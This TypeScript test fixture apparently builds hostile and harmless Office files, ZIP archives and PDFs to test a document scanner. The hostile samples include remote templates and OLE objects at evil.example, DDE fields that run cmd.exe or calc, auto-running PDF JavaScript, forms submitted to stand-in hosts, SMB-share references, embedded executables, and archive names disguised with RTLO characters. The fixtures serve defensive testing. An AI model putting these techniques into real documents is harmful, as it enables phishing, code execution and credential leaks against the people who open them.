import { deflateSync } from 'node:zlib';

import { openXmlFile, zipFile } from './zip-file';

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const relation = (type: string, target: string) =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
const relations = (...inner: readonly string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner.join('')}</Relationships>`;
const rels = (name: string, type: string, target: string) => [{ name, content: relations(relation(type, target)) }];
const textPart = (inner: string) => [
  {
    name: 'word/document.xml',
    content: `<?xml version="1.0"?><w:document xmlns:w="http://w/"><w:body><w:p>${inner}</w:p></w:body></w:document>`,
  },
];
const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const code = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;

/** A PDF of a page, with these objects and what stands in its catalog. */
export function pdfFile(catalog: string, ...objects: readonly string[]): Buffer {
  const all = [
    `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj`,
    '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj',
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>\nendobj',
    ...objects.map((object, index) => `${String(index + 4)} 0 obj\n${object}\nendobj`),
  ];
  const places: number[] = [];
  let text = '%PDF-1.7\n';
  for (const object of all) {
    places.push(text.length);
    text += `${object}\n`;
  }
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const count = String(all.length + 1);
  text += `xref\n0 ${count}\n0000000000 65535 f \n${table}trailer\n<< /Size ${count} /Root 1 0 R >>\nstartxref\n${String(text.length)}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const packed = (number: number, object: string): string => {
  const bytes = deflateSync(Buffer.from(`${String(number)} 0 ${object}`));
  const first = String(`${String(number)} 0 `.length);
  return `<< /Type /ObjStm /N 1 /First ${first} /Filter /FlateDecode /Length ${String(bytes.length)} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
};

type Hostile = readonly [what: string, part: string, bytes: Buffer];

/** Office documents that load or start something when they are opened, with the part that is named. */
export const hostileDocuments: readonly Hostile[] = [
  [
    'a template behind an entity',
    'DOCTYPE',
    openXmlFile(word, [
      {
        name: 'word/_rels/settings.xml.rels',
        content: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY t "https://evil.example/a.dotm">]>${relations(relation('attachedTemplate', '&t;'))}`,
      },
    ]),
  ],
  [
    'a template, its address in numbers',
    '',
    openXmlFile(word, rels('word/_rels/settings.xml.rels', 'attachedTemplate', '&#104;ttps://e.example/a.dotm')),
  ],
  ['a template on a share', '', openXmlFile(word, rels('word/_rels/settings.xml.rels', 'attachedTemplate', '\\\\10.0.0.1\\a\\b.dotm'))],
  [
    'an OLE object from elsewhere',
    'oleObject → https://evil.example/a',
    openXmlFile(word, rels('word/_rels/document.xml.rels', 'oleObject', 'https://evil.example/a')),
  ],
  [
    'a frame in a header',
    'word/_rels/header1.xml.rels',
    openXmlFile(word, rels('word/_rels/header1.xml.rels', 'frame', 'mhtml:https://evil.example/a!x')),
  ],
  [
    'a picture that tells who opens it',
    'image',
    openXmlFile(word, rels('word/_rels/document.xml.rels', 'image', 'file://evil.example/a.png')),
  ],
  [
    'relations in UTF-16',
    'oleObject',
    openXmlFile(word, [
      {
        name: 'word/_rels/document.xml.rels',
        content: Buffer.from(`\uFEFF${relations(relation('oleObject', 'https://evil.example/a'))}`, 'utf16le'),
      },
    ]),
  ],
  [
    'a DDE field cut into runs',
    'word/document.xml: DDE',
    openXmlFile(word, textPart(`${char('begin')}${code('DDE')}${code('AUTO c:\\\\cmd.exe')}${char('separate')}${char('end')}`)),
  ],
  ['a DDE field in one', 'DDE', openXmlFile(word, textPart('<w:fldSimple w:instr=" dde Excel a.xls A1 "/>'))],
  ['a DDE field written as data', 'DDE', openXmlFile(word, textPart(`${char('begin')}${code('<![CDATA[DDE cmd]]>')}${char('end')}`))],
  ['a DDE field without an end', 'DDE', openXmlFile(word, textPart(`${char('begin')}${code('DDE cmd')}`))],
  [
    'a DDE link of a sheet',
    'DDE',
    openXmlFile(sheet, [
      {
        name: 'xl/externalLinks/externalLink1.xml',
        content: '<x:externalLink xmlns:x="http://x/"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>',
      },
    ]),
  ],
];

/** What office documents may have: links that a reader follows, files of the writer's own disk, other fields, words like these. */
export const harmlessDocuments: readonly [string, Buffer][] = [
  ['a link', openXmlFile(word, rels('word/_rels/document.xml.rels', 'hyperlink', 'https://lex.uz/docs/1'))],
  [
    'a template of the writer’s own',
    openXmlFile(word, rels('word/_rels/settings.xml.rels', 'attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm')),
  ],
  ['a workbook beside it', openXmlFile(sheet, rels('xl/externalLinks/_rels/externalLink1.xml.rels', 'externalLinkPath', 'C:\\a\\b.xlsx'))],
  [
    'a page number and words',
    openXmlFile(word, textPart(`${char('begin')}${code(' PAGE ')}${char('separate')}${char('end')}<w:t>DDE, DOCTYPE</w:t>`)),
  ],
];

/** Archives with a program that Windows opens under another name than it is written. */
export const hostileArchives: readonly Hostile[] = [
  'a.exe.',
  'a.exe ',
  'a.exe. . ',
  'papka/a.ps1\u00A0',
  'rasm\u202Egpj.exe',
  'a.e\u200Bxe',
  'b.docm.',
].map((name) => [`a program called ${JSON.stringify(name)}`, name, zipFile([{ name, content: 'x' }])]);

/** PDFs that do something by themselves or carry something with them, with the part that is named. */
export const hostilePdfs: readonly Hostile[] = [
  ['a script without its name', 'JavaScript', pdfFile('/OpenAction 4 0 R', '<< /JS (app.alert(1)) >>')],
  ['a script without its name, packed', 'JavaScript', pdfFile('', packed(9, '<< /J#53 (app.alert(1)) >>'))],
  ['a script, plainly', 'JavaScript', pdfFile('/OpenAction << /S /JavaScript /JS (1) >>')],
  ['a form that sends itself', 'SubmitForm', pdfFile('', '<< /Type /Annot /A << /S /Submit#46orm /F (https://evil.example) >> >>')],
  ['an address that opens by itself', 'OpenAction: URI', pdfFile('/OpenAction 4 0 R', '<< /S /URI /URI (https://evil.example) >>')],
  [
    'one that opens after a place',
    'OpenAction: URI',
    pdfFile('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>', '<< /S /URI /URI (https://e.example) >>'),
  ],
  [
    'one that opens with a page',
    'AA O: URI',
    pdfFile('', '<< /Type /Page /AA << /O 5 0 R >> >>', '<< /S /URI /URI (https://e.example) >>'),
  ],
  ['a document on a share', 'GoToR: \\\\10.0.0.1\\a.pdf', pdfFile('', '<< /S /GoToR /F (\\\\\\\\10.0.0.1\\\\a.pdf) /D [0 /Fit] >>')],
  [
    'a document on a share, by its description',
    'GoToR',
    pdfFile('', '<< /S /GoToR /F << /Type /Filespec /UF <2F2F31302E302E302E312F61> >> >>'),
  ],
  ['an embedded file', 'EmbeddedFile', pdfFile('/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>', '<< /Type /Filespec /F (a.exe) >>')],
  ['a file at a note', 'EmbeddedFile', pdfFile('', '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>')],
  ['a form of XFA', 'XFA', pdfFile('/AcroForm << /Fields [] /XFA 4 0 R >>', '<< /Length 0 >>\nstream\n\nendstream')],
  ['a row without an end', 'Next', pdfFile('/OpenAction 4 0 R', '<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>')],
];

/** What PDFs may have. */
export const harmlessPdfs: readonly [string, Buffer][] = [
  ['a link that a reader follows', pdfFile('', '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://lex.uz) >> >>')],
  ['a place to begin at', pdfFile('/OpenAction [3 0 R /FitH 100]')],
  ['the same as an action', pdfFile('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')],
  ['a document beside it', pdfFile('', '<< /S /GoToR /F (ilova.pdf) /D [0 /Fit] >>')],
  ['a form that is printed', pdfFile('/AcroForm << /Fields [4 0 R] >>', '<< /FT /Tx /T (ism) /V (Anvar) >>')],
  ['a table with headings', pdfFile('', '<< /Type /StructElem /S /TH /A << /O /Table /Scope /Column >> >>')],
];
